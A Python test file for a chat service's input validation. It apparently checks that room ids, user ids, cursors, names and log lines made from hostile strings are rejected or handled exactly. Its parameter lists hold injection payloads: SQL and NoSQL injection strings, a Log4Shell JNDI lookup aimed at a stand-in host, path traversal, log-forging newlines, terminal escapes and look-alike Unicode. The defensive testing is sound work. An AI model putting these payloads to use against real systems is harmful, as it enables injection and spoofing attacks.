"""Text that could act as more than text: in table keys, cursors, names and log lines."""

import json
from typing import Any

import pytest

from tests.security.all_actions import ACTIONS, fields_of, frames
from tests.security.attacked_chat import AttackLog
from tests.security.attacked_rooms import TEA, AttackedRooms
from tests.support.harness import Frame

STRANGE = [
    *("ROOM#tea", "tea#", "tea#MEMBER", "tea/../den", "*", "%", "..", "tea ", " tea", "TEA\n"),
    *("\x00", "tea\x00", "tea\u200b", "te\u0430", "~", "\U0010ffff", "tea'--", 'tea" OR "1', "$ne"),
    *(":room", "#name", "{}", "0" * 65, "", "tea,den", "tea;den", "\uff03", "\uff54ea"),
]
"""Values that are no ids, although a store could accept them as an id or a pattern."""

PATTERNED = [
    (action, name)
    for action in ACTIONS
    for name in ("roomId", "clientMessageId")
    if name in fields_of(action)
] + [("listRooms", "cursor")]


@pytest.mark.parametrize(("action", "field"), PATTERNED)
def test_invalid_ids_are_rejected(rooms: AttackedRooms, action: str, field: str) -> None:
    """An id has 1 to 64 plain characters. Others are rejected before any request to DynamoDB."""
    for value in STRANGE:
        frame = {**next(frames(action)), field: value}
        rooms.chat.calls.clear()

        reply = rooms.chat.rejects("owner", frame, "bad_request")

        assert reply["message"].startswith(f"$.{field}: ")
        assert not rooms.chat.calls


USERS = [
    *("#", "u-owner#", "u-owner#m1", "MEMBER#u-owner", "ROOM", "~", "\U0010ffff"),
    *("u-owne\u0433", "U-OWNER", "u owner"),
    *("*", "%", "' OR '1'='1", '{"$ne":""}', "${jndi:ldap://x}", "x" * 256, "\U0010ffff" * 64),
]

HIDDEN_USERS = [
    *("\x00", "\x01", "u-owner\n", "u-owner\x00", "u-owner\x1b[2J", "u-\x9bowner"),
    *("u-owner ", " u-owner", "u-owner\u200b", "\u202eu-owner"),
]
"""User ids that a terminal could obey, or that look like another."""


@pytest.mark.parametrize("user_id", HIDDEN_USERS, ids=ascii)
@pytest.mark.parametrize("action", [it for it in ACTIONS if "userId" in fields_of(it)])
def test_user_ids_with_hidden_characters_are_rejected(
    rooms: AttackedRooms, action: str, user_id: str
) -> None:
    """Nobody can be invited, banned or otherwise named by such an id."""
    frame = {**next(frames(action)), **TEA, "userId": user_id}

    reply = rooms.chat.rejects("owner", frame, "bad_request")

    assert reply["message"] == "$.userId: control characters and outer blanks are not allowed"


@pytest.mark.parametrize("user_id", USERS, ids=ascii)
@pytest.mark.parametrize("action", ["setRole", "kickMember"])
def test_strange_user_ids_match_no_user(rooms: AttackedRooms, action: str, user_id: str) -> None:
    """A user id matches exactly: no similar id, no prefix and no pattern."""
    frame = {**next(frames(action)), **TEA, "userId": user_id}

    reply = rooms.chat.rejects("owner", frame, "bad_request")

    assert reply["message"].startswith("$.userId: no user with this id")


@pytest.mark.parametrize("user_id", USERS, ids=ascii)
@pytest.mark.parametrize("action", ["banMember", "muteMember"])
def test_bans_and_mutes_apply_to_the_exact_user_id(
    rooms: AttackedRooms, action: str, user_id: str
) -> None:
    """A ban or mute of a strange user id changes that user's membership, and no other."""
    chat = rooms.chat
    with chat.undone():
        before = chat.items()
        chat.does("owner", **{**next(frames(action)), **TEA, "userId": user_id})

        count = {("ROOM#tea", "ROOM")} if action == "banMember" else set()  # of roles and bans
        assert chat.changed(before).keys() == {("ROOM#tea", f"MEMBER#{user_id}"), *count}
        for who in ("visitor", "member"):
            chat.does(who, "sendMessage", **TEA, text="still here")


@pytest.mark.parametrize("user_id", USERS, ids=ascii)
def test_invitations_apply_to_the_exact_user_id(rooms: AttackedRooms, user_id: str) -> None:
    """An invitation of a strange user id makes that user a member, and no other."""
    chat = rooms.chat
    with chat.undone():
        before = chat.items().keys()
        chat.does("owner", "inviteMember", roomId=rooms.private_id, userId=user_id, name="x")

        added = {(pk, sk) for _, pk, sk in chat.items().keys() - before}
        assert added == {
            (f"ROOM#{rooms.private_id}", f"MEMBER#{user_id}"),
            (f"USER#{user_id}", f"ROOM#{rooms.private_id}"),
        }
        people = chat.does("owner", "listRoles", roomId=rooms.private_id)["members"]
        assert user_id in [member["userId"] for member in people]
        for who in ("stranger", "kicked"):
            chat.rejects(who, {"action": "joinRoom", "roomId": rooms.private_id}, "room_not_found")


CURSORS = [*USERS, *HIDDEN_USERS, "MESSAGE#", "INVITE#", "../", "A", "a", "zzz", "u-", "\U0010fffe"]


@pytest.mark.parametrize("cursor", CURSORS, ids=ascii)
def test_cursors_of_roles_stay_in_the_list(rooms: AttackedRooms, cursor: str) -> None:
    """From any cursor the page is a part of that room's list of members."""
    with rooms.chat.nothing_happens():
        reply = rooms.chat.does("visitor", "listRoles", **TEA, cursor=cursor)

    everybody = rooms.chat.does("visitor", "listRoles", **TEA)["members"]
    assert reply["members"] == [m for m in everybody if m["userId"].encode() > cursor.encode()]


@pytest.mark.parametrize("cursor", ["x" * 257, "\U0010ffff" * 65, "", 7, ["a"], {"pk": "x"}])
def test_invalid_cursors_of_roles_are_rejected(rooms: AttackedRooms, cursor: Any) -> None:
    """A cursor that no earlier page contained is rejected by its field."""
    frame = {"action": "listRoles", **TEA, "cursor": cursor}
    code = "too_large" if isinstance(cursor, str) and 64 < len(cursor) < 200 else "bad_request"

    assert rooms.chat.rejects("visitor", frame, code)["message"].startswith("$.cursor: ")


@pytest.mark.parametrize("cursor", ["-", "0", "Z", "_", "a", "tea", "z" * 64, "den"])
def test_cursors_of_rooms_stay_in_the_list(rooms: AttackedRooms, cursor: str) -> None:
    """From any cursor the page is a part of the list of rooms."""
    for which in ("public", "mine"):
        everything = rooms.chat.does("stranger", "listRooms", which=which)["rooms"]

        reply = rooms.chat.does("stranger", "listRooms", which=which, cursor=cursor)

        assert reply["rooms"] == [e for e in everything if e["room"]["roomId"] > cursor]


FIELDS = [
    *("x` - at `$.text", "` - at `$", "`", "x\n", "\n` - at `$.text", "x\u2028y", "", " "),
    *("Object contains unknown field `text`", "x" * 65, "\n" * 65, "x" * 100 + "` - at `$.text"),
]
"""Names of fields that a parser of error messages could take for more than a name."""


@pytest.mark.parametrize("field", FIELDS, ids=lambda field: ascii(field[:20]))
@pytest.mark.parametrize("action", ["ping", "sendMessage"])
def test_unknown_fields_are_reported_by_name(rooms: AttackedRooms, action: str, field: str) -> None:
    """An unknown field is reported by its own name, truncated, and under no other path."""
    reply = rooms.chat.rejects("owner", {**next(frames(action)), field: 1}, "bad_request")

    assert reply["message"] == f"$.{field[:64]}: unknown field"


LINES = [
    'x\n{"level": "INFO", "message": "handled", "code": "ok"}',
    "x\r\nERROR admin logged in",
    "\x1b[2J\x1b[31mred",
    '", "code": "ok", "x": "',
    "\u2028{}\u2029{}",
    "\x85{}",
    "x" * 64,
    "%s%n{0}",
    "${jndi:ldap://eve.example/x}",
    "\\u000a\\n",
]
"""Texts that could end a line, colour a terminal, close a JSON string, or be formatted."""


def said(line: str) -> dict[str, Frame]:
    """Return frames with *line* in every place that a client can set."""
    return {
        "the action": {"action": line},
        "a requestId": {"action": "ping", "requestId": line[:64]},
        "a room id": {"action": "joinRoom", "roomId": line},
        "a text": {"action": "sendMessage", **TEA, "text": line},
        "a room's name": {"action": "updateRoom", **TEA, "name": line},
        "an invite": {"action": "joinRoom", **TEA, "invite": line},
        "a user id": {"action": "kickMember", **TEA, "userId": line},
        "a field": {"action": "ping", line: 1},
        "an epoch": {"action": "joinRoom", **TEA, "epoch": line},
    }


@pytest.mark.parametrize("line", LINES, ids=ascii)
@pytest.mark.parametrize("where", said("").keys())
def test_a_log_line_is_one_json_object(
    rooms: AttackedRooms, attack_log: AttackLog, line: str, where: str
) -> None:
    """Each event is one JSON object in one line of ASCII, and contains nothing of the client's."""
    before = len(attack_log.lines)

    with rooms.chat.undone():
        rooms.chat.says("owner", said(line)[where])

    texts = attack_log.lines[before:]
    *trail, logged = map(json.loads, texts)
    assert all(text.isascii() for text in texts)
    assert (logged["level"], logged["message"]) == ("INFO", "handled")
    assert (logged["function"], logged["connectionId"]) == ("chat", "owner")
    # A name that is allowed renames the room, which has a line in the audit trail.
    assert [each["event"] for each in trail] in ([], ["roomRenamed"])
    for each in (*trail, logged):
        each.pop("roomId", None)  # is validated first, so it cannot contain the text
        assert line not in each.values()


def test_logs_contain_no_text_and_no_names(rooms: AttackedRooms, attack_log: AttackLog) -> None:
    """No log line contains a text, or the name of a user or a room."""
    with rooms.chat.undone():
        rooms.chat.does("owner", "sendMessage", **TEA, text="a very quiet remark")
        rooms.chat.does("owner", "updateRoom", **TEA, name="a very quiet name")
        frame = {"action": "sendMessage", **TEA, "text": "a very quiet remark", "x": "remark"}
        rooms.chat.rejects("owner", frame, "bad_request")

    assert "quiet" not in attack_log.log.getvalue()


LOOK_ALIKES = [
    "\u043ewner",
    "ow\u0578er",
    "OWNER",
    "owner\u0301",
    "\uff4fwner",
    "owner (moderator)",
]


@pytest.mark.parametrize("name", LOOK_ALIKES, ids=ascii)
def test_look_alike_names_have_no_permissions(rooms: AttackedRooms, name: str) -> None:
    """Look-alike names are allowed, as equal names are.

    They belong to another user without the role.
    """
    chat = rooms.chat
    with chat.undone():
        token = chat.secret(chat.issuer.token(sub="u-mallory", name=name))
        assert chat.handshake("mallory", {"Authorization": f"Bearer {token}"}) == 200
        chat.replies["mallory"] = []
        chat.does("mallory", "joinRoom", **TEA)

        people = chat.does("visitor", "listMembers", **TEA)["members"]
        assert {"userId": "u-mallory", "name": name} in people
        assert {"userId": "u-owner", "name": "owner", "role": "owner"} in people
        chat.rejects("mallory", {"action": "deleteRoom", **TEA}, "forbidden")


HIDDEN = [
    "owner\u200b",
    "owner\u202e",
    "\u2066owner",
    "owner\u00ad",
    "own\ufeffer",
    "owner\x00",
    "owner\n",
]


@pytest.mark.parametrize("name", [*HIDDEN, "\u3164", " ", "\u200d"], ids=ascii)
def test_names_with_invisible_characters_are_rejected(rooms: AttackedRooms, name: str) -> None:
    """Rooms and invitations reject names with characters that are invisible or reverse the line."""
    for action in ("createRoom", "updateRoom", "inviteMember"):
        fields = {"userId": "u-x"} if action == "inviteMember" else {}
        frame = {"action": action, "roomId": "tea", "name": name, **fields}

        assert rooms.chat.rejects("owner", frame, "bad_request")["message"].startswith("$.name: ")


@pytest.mark.parametrize("name", [*HIDDEN, "\u3164", " ", "\u200d"], ids=ascii)
def test_tokens_with_invisible_names_use_the_user_id(rooms: AttackedRooms, name: str) -> None:
    """If a token has such a name, its user is shown by the user id."""
    chat = rooms.chat
    with chat.undone():
        token = chat.secret(chat.issuer.token(sub="u-mallory", name=name))
        assert chat.handshake("mallory", {"Authorization": f"Bearer {token}"}) == 200
        chat.replies["mallory"] = []

        assert chat.does("mallory", "hello")["name"] in ("u-mallory", name.strip() or "u-mallory")
        assert chat.user_id("mallory") == "u-mallory"


SHOWN_NAMES = {"\u3164": "user", "x" * 80: "x" * 64}
"""User ids that are no valid names, and the names that are shown for them."""


@pytest.mark.parametrize(("user_id", "called"), SHOWN_NAMES.items(), ids=ascii)
@pytest.mark.parametrize("name", [None, "\u202e"], ids=ascii)
def test_unprintable_user_ids_are_shown_as_plain_names(
    rooms: AttackedRooms, user_id: str, called: str, name: str | None
) -> None:
    """The name is made of the visible characters of the user id. The id itself does not change."""
    chat = rooms.chat
    with chat.undone():
        token = chat.secret(chat.issuer.token(sub=user_id, name=name))
        assert chat.handshake("mallory", {"Authorization": f"Bearer {token}"}) == 200
        chat.replies["mallory"] = []
        chat.does("mallory", "joinRoom", **TEA)

        assert chat.user_id("mallory") == user_id
        people = chat.does("visitor", "listMembers", **TEA)["members"]
        assert {"userId": user_id, "name": called} in people
        assert chat.heard("visitor")[-1]["member"] == {"userId": user_id, "name": called}
        chat.rejects("mallory", {"action": "deleteRoom", **TEA}, "forbidden")


@pytest.mark.parametrize(
    "user_id",
    [
        *("\u202eecila\u202c\n\u200b", "owner\u200b", "u\u2066\nmallory ", "\u2069" + "x" * 80),
        *(
            "\u202e\u200b",
            "\u200d\u0301",
            "u-owner\x1b[2J",
            "u-owner\x9b",
            " u-owner",
            "u-owner\u00a0",
        ),
        *("erased", "guest-", "guest-" + "0" * 32),
    ],
    ids=ascii,
)
def test_tokens_with_hidden_or_reserved_user_ids_are_rejected(
    rooms: AttackedRooms, user_id: str
) -> None:
    """No token names a user who looks like another, a guest, or the sender of erased messages."""
    token = rooms.chat.issuer.token(sub=user_id, name="Mallory")

    rooms.chat.rejects_handshake({"Authorization": f"Bearer {token}"})
